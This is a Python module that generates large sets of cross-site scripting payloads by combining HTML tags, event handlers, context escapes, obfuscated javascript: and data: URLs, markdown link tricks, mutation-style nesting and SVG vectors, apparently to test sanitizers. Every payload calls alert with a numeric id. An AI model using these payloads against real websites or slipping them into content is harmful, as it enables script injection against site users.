"""Texts that would run a script where they are taken for markup: made by combining what browsers take for a
tag, an event, an address, a way out of what stands around it and a way to write the call. Nothing is copied
from anybody's list; `others` reads such lists where they are given."""

import json
import random
import re
from base64 import b64encode
from html import escape
from itertools import cycle, product
from pathlib import Path

CALLS = (
    "alert({n})", "alert`{n}`", "(alert)({n})", "top['al'+'ert']({n})", "[{n}].find(alert)",
    "\\u0061lert({n})", "alert&#40;{n}&#41;", "&#97;lert({n})", "&#x61;lert&lpar;{n}&rpar;",
    "setTimeout(alert,0,{n})", "Reflect.apply(alert,0,[{n}])", "self.alert?.({n})", "throw/**/onerror=alert,{n}",
)  # fmt: skip
TAGS = (
    "img src=x", "svg", "video", "audio", "body", "input", "select", "textarea", "button", "details open", "math",
    "form", "a href=x", "b", "div", "p", "table", "td", "iframe", "object", "embed", "marquee", "style", "link",
    "source", "video><source", "picture><img src=x", "track", "xss", "dialog open", "meter", "output", "ruby",
    "image src=x", "svg><g", "svg><animate", "svg><set attributeName=x", "svg><a", "svg><image href=x", "frameset",
    "isindex", "keygen", "template", "slot", "portal", "area", "progress", "summary", "fieldset", "canvas",
)  # fmt: skip
EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus autofocus tabindex=1 x", "onfocusin", "onblur",
    "onanimationstart", "onanimationend", "ontransitionend", "ontoggle", "onbeforetoggle", "onpointerenter",
    "onpointerdown", "onmouseenter", "onmousemove", "onkeydown", "onkeyup", "oninput", "onchange", "onscroll",
    "onscrollend", "onwheel", "onbegin", "onend", "onrepeat", "onloadstart", "onloadeddata", "oncanplay",
    "onplay", "onpageshow", "onresize", "onhashchange", "oncopy", "oncut", "onpaste", "ondragstart", "ondrop",
    "oncontextmenu", "onauxclick", "onsubmit", "onreset", "oninvalid", "onsearch", "ontouchstart", "onselect",
    "onbeforeinput", "onsecuritypolicyviolation", "oncontentvisibilityautostatechange", "onstart", "onfinish",
)  # fmt: skip
WAYS_OUT = (
    "", '">', "'>", "-->", "</title>", "</textarea>", "</style>", "</script>", "]]>", "</svg>", "</math>",
    "</noscript>", "</select>", "</option>", "</template>", "</table>", "\n\n", "`", "*/", "</a>", "}}", "%>",
    "</button>", "</xmp>", "\x0b", "<!-->", "<![CDATA[", "<?", "</p>\n", "&gt;", "\\\">",
)  # fmt: skip
SPACES = (" ", "/", "\t", "\n", "\x0c", " / ", "\r\n")
QUOTES = ("", '"', "'")
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:",
    "&#106;avascript:", "&#x6A;avascript:", "javascript&colon;", "javascript&#58;", "java&Tab;script:",
    "java&NewLine;script:", "javascript://%0a", "vbscript:", "feed:javascript:", "view-source:javascript:",
    "data:text/html,<script>", "data:text/html;base64,", "data:image/svg+xml,", "blob:javascript:", "jar:javascript:",
    "%6Aavascript:", "javascript&#0000058", "\u2028javascript:", "ｊavascript:",
)  # fmt: skip
HOLDERS = (
    "<a href={u}>x</a>", "<area href={u}>", "<form action={u}><button>x</button></form>", "<button formaction={u} form=f>x</button>",
    "<iframe src={u}></iframe>", "<object data={u}></object>", "<embed src={u}>", "<base href={u}>",
    "<svg><a xlink:href={u}><text y=9>x</text></a></svg>", "<svg><a href={u}><text y=9>x</text></a></svg>",
    "<math href={u}>x</math>", '<meta http-equiv=refresh content="0;url={b}">', "<link rel=stylesheet href={u}>",
    "<img src={u}>", "<video poster={u}></video>", "<input type=image src={u}>", "<input type=submit formaction={u}>",
    "<svg><a><animate attributeName=href values={u} /><text y=9>x</text></a></svg>",
    "<svg><a><set attributeName=xlink:href to={u} /><text y=9>x</text></a></svg>", "<svg><use href={u} /></svg>",
    "<iframe srcdoc={u}></iframe>", "<a ping={u} href={u}>x</a>", "<blockquote cite={u}>x</blockquote>",
    "<table background={u}><td>x</table>", "<script src={u}></script>", "<frameset><frame src={u}></frameset>",
)  # fmt: skip
MARKDOWN = (
    "[x]({b})", "![x]({b})", "<{b}>", "[x](<{b}>)", '[x]({b} "title")', "[x][1]\n\n[1]: {b}", "[x]({b} 'a\"onclick=b')",
    "![x]({b} \"' onerror='{c}\")", "[![x]({b})]({b})", "[*x*]({b})", "| a |\n|---|\n| [x]({b}) |", "# [x]({b})",
    "> [x]({b})", "- [x]({b})", "[x](term:{b})", "[x](image:{b})", "[@{b}]", '[@" onclick={c} x="]',
    ":::plain {b}\n[x]({b})\n:::", '```" onclick={c}\nx\n```', "`<img src=x onerror={c}>`", "\\<img src=x onerror={c}>",
    "&lt;img src=x onerror={c}&gt;", "<img src=x\nonerror={c}>", "**<svg/onload={c}>**", "[[1]]<svg/onload={c}>",
    "# <svg/onload={c}>", "| <svg/onload={c}> |\n|---|\n| <img src=x onerror={c}> |", "1. <script>{c}</script>",
    "[x]: <{b}> '\"onclick={c}'\n\n[x]", "<a\nhref={b}>x</a>", "![\" onerror={c} \"](x)", "[x](http://a\"onclick={c}//)",
    "<http://a\"onclick={c}//>", "<a@b.c\"onclick={c}//>", "http://a\"onmouseover={c}//", "[x](//a'onclick={c}//)",
)  # fmt: skip
NESTS = (
    "<svg><style>{p}</style></svg>", "<math><mtext><table><mglyph><style><!--</style>{e}--></style></table></math>",
    '<noscript><p title="</noscript>{p}"></noscript>', "<template>{p}</template>", "<xmp>{p}</xmp>",
    "<select><option>{p}</option></select>", "<svg><foreignObject>{p}</foreignObject></svg>", "<svg><desc>{p}</desc></svg>",
    "<svg><title>{p}</title></svg>", "<title>{p}</title>", "<textarea>{p}</textarea>", "<!-- {p} -->", "<!--><!-- {p} --!>",
    "<table><caption>{p}<tr>{p}</table>", "<math><annotation-xml encoding=text/html>{p}</annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math>{p}", "<noembed>{p}</noembed>", "<iframe>{p}</iframe>",
    "<a title='{e}'>x</a>", "<listing>{p}</listing>", "<plaintext>{p}", "<div><div>{p}", "</p>{p}<p>", "<p <{p}",
    "<<{p}", "<\x00{p}", "{e}", "<svg></p><style><a id=\"</style>{p}\">", "<math></br>{p}", "<svg><p>{p}</svg>",
)  # fmt: skip
ATTRIBUTES = (
    '" {v} x="',
    "' {v} x='",
    '" {v} //',
    "x {v} ",
    '\\" {v} \\"',
    "\u201d {v} \u201c",
    "&quot; {v} x=&quot;",
)


def cased(word, how):
    return (
        word.upper()
        if how == 1
        else "".join(map(str.swapcase, word[::2])) + word
        if how == 3
        else word.title()
        if how == 2
        else word
    )


def tag(rng, call):
    """An element with a handler, behind a way out."""
    name, event = rng.choice(TAGS), rng.choice(EVENTS)
    event, _, rest = event.partition(" ")
    quote, space = rng.choice(QUOTES), rng.choice(SPACES)
    event = cased(event, rng.choice((0, 0, 1, 2)))
    said = call.replace(" ", "/**/") if not quote else call
    more = f"{rest.removesuffix(' x')}{space}" if rest else ""
    end = rng.choice((">", ">", "//>", " <!--", f">x</{name.split()[0]}>"))
    return f"{rng.choice(WAYS_OUT)}<{name}{space}{more}{event}={quote}{said}{quote}{' ' if not quote else ''}{end}"


def script(rng, call):
    name = cased("script", rng.choice((0, 1, 2)))
    shape = rng.choice(
        ("<{s}>{c}</{s}>", "<{s}\n>{c}</{s} >", "<{s}/x>{c}</{s}\t>", "<svg><{s}>{c}</{s}></svg>", "<{s}>{c}//", "<{s}><!--\n{c}</{s}>",
         "<{s} type=module>{c}</{s}>", "<{s} src=data:text/javascript,{c}></{s}>", "<<{s}>{c}</{s}>", "<{s}>/*</title>*/{c}</{s}>")
    )  # fmt: skip
    return rng.choice(WAYS_OUT) + shape.format(s=name, c=call)


def address(rng, call):
    scheme = rng.choice(SCHEMES)
    if scheme.endswith("base64,"):
        return scheme + b64encode(f"<script>{call}</script>".encode()).decode()
    if scheme.startswith("data:image"):
        return f"{scheme}<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>"
    return scheme + call


def holder(rng, call):
    bare = address(rng, call)
    quote = rng.choice(('"', "'", ""))
    shown = f"{quote}{bare}{quote}" if quote else re.sub(r"[\s>]", "", bare)
    return rng.choice(WAYS_OUT) + rng.choice(HOLDERS).replace("{u}", shown).replace("{b}", bare)


def markdown(rng, call):
    return rng.choice(MARKDOWN).replace("{b}", address(rng, call)).replace("{c}", call)


def nested(rng, call):
    inner = rng.choice((tag, script, holder))(rng, call)
    return rng.choice(NESTS).replace("{p}", inner).replace("{e}", escape(inner))


def attribute(rng, call):
    """A handler slipped into the tag the text stands in."""
    event = rng.choice(EVENTS).partition(" ")[0]
    return rng.choice(ATTRIBUTES).replace("{v}", f"{event}={call}")


FAMILIES = (tag, script, holder, markdown, nested, attribute, tag, holder)


def payloads(count, seed=0):
    """[(number, text)]: that many, all different, each with a number of its own to be told by."""
    rng, made, seen = random.Random(seed), [], set()  # noqa: S311
    for family, call in cycle(product(FAMILIES, CALLS)):
        if len(made) == count:
            return made
        number = 1000 + len(made)
        shape = family(rng, call)
        if shape not in seen:
            seen.add(shape)
            made.append((number, shape.replace("{n}", str(number))))


def others(folder):
    """The lists in a folder of hostile texts, each text once, numbered from 100000."""
    texts = {}
    for file in sorted(Path(folder).glob("*xss*.txt")):
        texts |= dict.fromkeys(file.read_text(errors="replace").splitlines())
    for file in sorted(Path(folder).glob("bleach*.json")):
        texts |= dict.fromkeys(each["payload"] for each in json.loads(file.read_text()))
    numbered = enumerate(filter(str.strip, texts), 100_000)
    return [
        (number, re.sub(r"alert\((?:'XSS'|\"XSS\"|1)\)", f"alert({number})", text))
        for number, text in numbered
    ]


# Drawings have to be well-formed to be read at all.
IN_SVG = (
    "<svg {x}{v}>{r}</svg>", "<svg {x}><g {v}>{r}</g></svg>", "<svg {x}><{t} {v}>{r}</{t}></svg>",
    "<svg {x}><defs><{t} {v}/></defs>{r}</svg>", "<svg {x}><text>{r}<tspan {v}>x</tspan></text></svg>",
    "<svg {x}><title>{e}</title>{r}</svg>", '<svg {x} aria-label="{e}">{r}</svg>', '<svg {x} class="{e}">{r}</svg>',
    "<svg {x}><script>{c}</script></svg>", '<svg {x}><script href="{u}"/></svg>', "<svg {x}><style>{e}</style>{r}</svg>",
    '<svg {x}><a href="{u}"><text y="9">x</text></a></svg>', '<svg {x}><a xlink:href="{u}"><text y="9">x</text></a></svg>',
    '<svg {x}><use href="{u}"/></svg>', '<svg {x}><image href="{u}"/></svg>', '<svg {x}><path fill="url({u})" d="M0 0"/></svg>',
    '<svg {x}><foreignObject><h:img src="x" onerror="{a}"/></foreignObject></svg>', '<svg {x}><h:iframe srcdoc="{e}"/></svg>',
    '<svg {x}><animate attributeName="href" values="{u}"/></svg>', '<svg {x}><set attributeName="onload" to="{a}"/></svg>',
    '<svg {x}><handler type="text/javascript">{c}</handler></svg>', '<svg {x}><text font-family="{e}">x</text></svg>',
    '<!DOCTYPE svg [<!ENTITY e "{e}">]><svg {x}>&e;</svg>', '<?xml-stylesheet href="{u}"?><svg {x}>{r}</svg>',
    "<svg {x}><![CDATA[{p}]]></svg>", "<svg {x}><!-- {d} -->{r}</svg>", '<svg {x} id="{e}">{r}</svg>',
    '<svg {x}><text y="9">{e}</text></svg>', '<svg {x}><path d="{e}"/><path clip-path="{e}" d="M0 0"/></svg>',
)  # fmt: skip
SVG_TAGS = (
    "path",
    "circle",
    "text",
    "g",
    "animate",
    "set",
    "image",
    "use",
    "a",
    "marker",
    "filter",
    "feImage",
    "mask",
    "desc",
)


def drawings(count, seed=0):
    """[(number, SVG)]: as `payloads`, but each a drawing."""
    rng, made, seen = random.Random(seed), [], set()  # noqa: S311
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9" '
    while len(made) < count:
        shape, call, event = rng.choice(IN_SVG), rng.choice(CALLS), rng.choice(EVENTS)
        number = 1000 + len(made)
        inner = rng.choice((tag, script, holder))(rng, call)
        parts = {
            "{x}": names,
            "{v}": f'{event.partition(" ")[0]}="{escape(call)}"',
            "{t}": rng.choice(SVG_TAGS),
            "{r}": '<path d="M0 0"/>',
            "{e}": escape(inner),
            "{c}": escape(call),
            "{a}": escape(call),
            "{u}": escape(address(rng, call)),
            "{p}": inner.replace("]]>", ""),
            "{d}": inner.replace("--", ""),
        }
        for name, value in parts.items():
            shape = shape.replace(name, value)
        shape = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", shape)
        if shape not in seen:
            seen.add(shape)
            made.append((number, shape.replace("{n}", str(number))))
    return made
